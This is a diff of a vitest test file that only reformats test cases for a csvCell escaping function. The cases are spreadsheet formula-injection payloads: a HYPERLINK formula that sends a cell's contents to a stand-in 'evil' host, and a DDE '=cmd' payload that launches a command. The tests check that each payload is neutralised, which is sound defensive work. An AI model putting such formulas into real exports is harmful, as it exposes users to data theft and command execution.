@@ -8,18 +8,12 @@ import { describe, expect, it } from 'vitest';
 import { csvCell } from '../../src/render/csv-cell.js';
 
 describe('csvCell', () => {
-  it.each([
-    '=HYPERLINK("http://evil/"&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    '+SUM(1+1)',
-    '-2+3',
-    '@SUM(A1:A2)',
-    '\t=1+1',
-    '\r=1+1',
-    '-',
-  ])('writes %j as text', (formula) => {
-    expect(csvCell(formula)).toBe(`'${formula}`);
-  });
+  it.each(['=HYPERLINK("http://evil/"&A1,"click")', "=cmd|' /C calc'!A0", '+SUM(1+1)', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '-'])(
+    'writes %j as text',
+    (formula) => {
+      expect(csvCell(formula)).toBe(`'${formula}`);
+    },
+  );
 
   it.each(['-3', '+3', '-12.5', '-12.5%', '70.5%', '1e3', '-.5'])('leaves the number %j as it is', (number) => {
     expect(csvCell(number)).toBe(number);
